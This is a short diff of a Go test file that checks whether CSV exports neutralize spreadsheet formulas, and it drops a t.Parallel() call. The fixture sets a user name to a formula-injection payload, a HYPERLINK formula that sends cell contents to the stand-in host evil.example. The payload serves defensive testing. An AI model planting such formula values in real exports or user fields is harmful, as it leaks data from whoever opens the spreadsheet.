@@ -34,7 +34,6 @@ func TestCSVTextNeutralizesFormulaCells(t *testing.T) {
 }
 
 func TestCSVDownloadNeutralizesAFormulaName(t *testing.T) {
-	t.Parallel()
 	f := newFixture(t)
 	mallory := testkit.Member(f.admin.OrganizationID, authn.RoleEmployee)
 	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
